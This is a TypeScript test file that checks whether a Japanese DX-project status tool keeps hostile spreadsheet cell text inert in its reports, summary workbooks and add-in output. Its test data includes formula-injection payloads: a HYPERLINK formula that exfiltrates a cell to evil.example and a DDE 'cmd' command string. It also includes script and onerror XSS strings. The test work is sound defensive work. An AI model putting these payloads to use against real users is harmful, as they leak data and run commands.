/**
 * Hostile cell content: text that looks like a formula (= + - @, also after a tab or CR) or like HTML
 * stays inert data in every output — the CLI's --json and text reports, the --summary workbook (no
 * cell holds a formula: checked through exceljs and in the raw sheet XML) and the add-in's summary
 * sheet (through the Office.js double). Links the tools write point only inside the workbook.
 */
import { promises as fs } from 'fs';
import * as path from 'path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { DEFAULT_SETTINGS } from '../../src/core/config';
import type { Report } from '../../src/core/model';
import { installInternalLinkFix } from '../../src/cli/internal-links';
import { createExcelHost } from '../../src/excel/excel-host';
import { runSummary } from '../../src/excel/workflows';
import { tempDir } from '../cli/fixtures/build';
import { fakeRunner, supportsUpTo, WorkbookModel } from '../excel/fake-excel';
import { HEADER } from './cases';
import { runCli } from './run-cli';

jest.setTimeout(120_000);

/** Project names an attacker (or an unlucky copy-paste) could put in the sheet. */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(A1)',
  '=cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\r\n@A1',
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(2)">事業',
] as const;

const AS_OF = '2024-11-08';

/** The report's names are trimmed cell texts (model contract): a leading tab or CR goes, the rest stays. */
const TRIMMED = HOSTILE.map((h) => h.trim());

function hostileRows(): Array<Array<string | number | null>> {
  return HOSTILE.map((name, i) => [
    i + 1,
    name,
    i % 2 ? '情報政策課' : '=総務課',
    `${(i + 1) * 1000}円`,
    '+概要',
    '@6月に契約締結',
    '-7年2月より稼働予定',
    i % 3 ? null : 'デジ田',
  ]);
}

async function hostileXlsx(dir: string, sheetName = 'DX推進状況'): Promise<string> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(sheetName);
  ws.addRow(['①令和6年度実施事業']);
  ws.addRow([...HEADER]);
  for (const r of hostileRows()) ws.addRow(r);
  ws.getCell('J1').value = { text: '市のサイト', hyperlink: 'https://example.jp/' }; // the user's own link
  const file = path.join(dir, 'hostile.xlsx');
  await wb.xlsx.writeFile(file);
  return file;
}

interface SheetXml {
  readonly name: string;
  readonly xml: string;
  readonly rels: string | null;
}

/** Every worksheet part of an .xlsx with its tab name and relationships. */
function unescapeXml(s: string): string {
  return s
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

async function sheetParts(file: string): Promise<SheetXml[]> {
  const zip = await JSZip.loadAsync(await fs.readFile(file));
  const workbook = await zip.file('xl/workbook.xml')!.async('string');
  const wbRels = await zip.file('xl/_rels/workbook.xml.rels')!.async('string');
  const out: SheetXml[] = [];
  for (const m of workbook.matchAll(/<sheet [^>]*name="([^"]*)"[^>]*r:id="([^"]+)"/g)) {
    const target = new RegExp(`Id="${m[2]}"[^>]*Target="([^"]+)"`).exec(wbRels)?.[1] ?? '';
    const part = target.startsWith('/') ? target.slice(1) : `xl/${target}`;
    const relsPath = part.replace(/([^/]+)$/, '_rels/$1.rels');
    out.push({
      name: m[1]
        .replace(/&quot;/g, '"')
        .replace(/&apos;/g, "'")
        .replace(/&amp;/g, '&'),
      xml: await zip.file(part)!.async('string'),
      rels: (await zip.file(relsPath)?.async('string')) ?? null,
    });
  }
  return out;
}

async function loadBack(file: string): Promise<ExcelJS.Workbook> {
  installInternalLinkFix();
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  return wb;
}

/** String content of every cell of the workbook (plain strings and link texts), and formula count. */
function contents(wb: ExcelJS.Workbook, only?: string): { texts: string[]; formulas: number } {
  const texts: string[] = [];
  let formulas = 0;
  for (const ws of wb.worksheets.filter((w) => only === undefined || w.name === only))
    ws.eachRow((row) =>
      row.eachCell((c) => {
        if (c.type === ExcelJS.ValueType.Formula) formulas++;
        const v = c.value;
        if (typeof v === 'string') texts.push(v);
        else if (v && typeof v === 'object' && 'text' in v && typeof v.text === 'string') texts.push(v.text);
      }),
    );
  return { texts, formulas };
}

describe('CLI', () => {
  let dir: string;
  let input: string;
  beforeAll(async () => {
    dir = tempDir('dx-status-hostile-');
    input = await hostileXlsx(dir);
  });

  test('--json and the text report carry the hostile texts unchanged, as data', async () => {
    const json = await runCli('check', input, '--as-of', AS_OF, '--json');
    expect(json.stderr).toBe('');
    const report = JSON.parse(json.stdout) as Report;
    expect(report.projects.map((p) => p.name)).toEqual(TRIMMED);
    expect(report.projects[0].departments).toEqual(['=総務課']);
    const text = await runCli('check', input, '--as-of', AS_OF);
    expect(text.code).toBe(json.code);
    expect(text.stdout).toContain('=総務課');
  });

  test('--summary: no cell holds a formula (exceljs and the raw XML); the texts are intact', async () => {
    const out = path.join(dir, 'summary.xlsx');
    const r = await runCli('check', input, '--as-of', AS_OF, '--summary', out);
    expect(r.stderr).toBe('');
    const back = await loadBack(out);
    const { texts, formulas } = contents(back);
    expect(formulas).toBe(0);
    const summaryTexts = contents(back, '集計').texts;
    for (const h of TRIMMED) expect(summaryTexts).toContain(h);
    // The data sheet, as the user wrote it (an XML text node cannot hold a bare CR: it reads as LF).
    for (const h of HOSTILE) expect(texts).toContain(h.replace(/\r\n?/g, '\n'));
    for (const part of await sheetParts(out)) {
      expect(part.xml).not.toMatch(/<f[\s>]/);
      expect(part.xml).not.toMatch(/t="(?:e|str)"/);
    }
  });

  test('CSV input: the data sheet and the summary hold the texts as text', async () => {
    const csv = path.join(dir, 'hostile.csv');
    const field = (s: string | number | null) =>
      s === null ? '' : /[",\r\n]/.test(String(s)) ? `"${String(s).replace(/"/g, '""')}"` : String(s);
    const lines = [HEADER.join(','), ...hostileRows().map((r) => r.map(field).join(','))];
    await fs.writeFile(csv, lines.join('\r\n') + '\r\n');
    const out = path.join(dir, 'csv-summary.xlsx');
    const r = await runCli('check', csv, '--as-of', AS_OF, '--summary', out, '--json');
    const report = JSON.parse(r.stdout) as Report;
    // A CR inside a quoted CSV field is a line break: it reads as \n (as Excel does).
    const expected = HOSTILE.map((h) => h.replace(/\r\n?/g, '\n'));
    expect(report.projects.map((p) => p.name)).toEqual(TRIMMED);
    const { texts, formulas } = contents(await loadBack(out));
    expect(formulas).toBe(0);
    for (const h of [...expected, ...TRIMMED]) expect(texts).toContain(h);
    for (const part of await sheetParts(out)) expect(part.xml).not.toMatch(/<f[\s>]/);
  });

  test.each([['DX推進状況'], ['It\'s "DX" (案)'], ['A&B 集計']])(
    'links in the summary point inside the workbook only (source sheet %s)',
    async (sheetName) => {
      const sub = tempDir('dx-status-links-');
      const file = await hostileXlsx(sub, sheetName);
      const out = path.join(sub, 'out.xlsx');
      const r = await runCli('check', file, '--as-of', AS_OF, '--summary', out);
      expect(r.stderr).toBe('');
      const parts = await sheetParts(out);
      const summary = parts.find((p) => p.name === '集計')!;
      expect(summary).toBeDefined();
      // No relationship of the summary sheet leaves the workbook.
      expect(summary.rels ?? '').not.toMatch(/TargetMode="External"/);
      const locations = [...summary.xml.matchAll(/<hyperlink [^>]*>/g)].map((m) => m[0]);
      expect(locations.length).toBeGreaterThan(0);
      const names = parts.map((p) => p.name);
      for (const tag of locations) {
        expect(tag).not.toMatch(/r:id=/);
        const loc = unescapeXml(/location="([^"]+)"/.exec(tag)![1]);
        const m = /^'((?:[^']|'')+)'!\$?[A-Z]+\$?\d+$/.exec(loc);
        expect(m).not.toBeNull();
        expect(names).toContain(m![1].replace(/''/g, "'"));
      }
      // The user's own link to the web stays on the user's sheet, untouched.
      const source = parts.find((p) => p.name === sheetName)!;
      expect(source.rels ?? '').toContain('https://example.jp/');
    },
  );
});

describe('add-in summary sheet (Office.js double)', () => {
  test('hostile cells give a summary with no formula, the texts intact and internal links only', async () => {
    const model = new WorkbookModel();
    const sheet = model.addSheet('It\'s "DX"');
    sheet.put(0, 0, '①令和6年度実施事業');
    HEADER.forEach((h, c) => sheet.put(1, c, h));
    hostileRows().forEach((row, r) =>
      row.forEach((v, c) => {
        if (v !== null) sheet.put(2 + r, c, v);
      }),
    );
    const before = sheet.snapshot();
    const host = createExcelHost({ run: fakeRunner(model), isSetSupported: supportsUpTo('1.20') });
    const { sheetName, report } = await runSummary(host, {
      lang: 'ja',
      settings: { ...DEFAULT_SETTINGS, asOf: AS_OF },
      now: new Date('2024-11-08T03:00:00Z'),
    });
    expect(report.projects.map((p) => p.name)).toEqual(TRIMMED);
    const summary = model.sheet(sheetName)!;
    const cells = [...summary.cells.values()];
    expect(cells.filter((c) => c.formula)).toEqual([]);
    for (const h of TRIMMED) {
      const hit = cells.filter((c) => c.value === h);
      expect(hit.length).toBeGreaterThan(0);
      for (const c of hit) expect(c.numberFormat).toBe('@');
    }
    const links = cells.filter((c) => c.hyperlink);
    expect(links.length).toBeGreaterThan(0);
    for (const l of links) {
      expect(l.hyperlink?.address).toBeUndefined();
      expect(l.hyperlink?.documentReference).toMatch(/^'It''s "DX"'!\$?[A-Z]+\$?\d+$/);
    }
    expect(sheet.snapshot()).toEqual(before);
  });
});
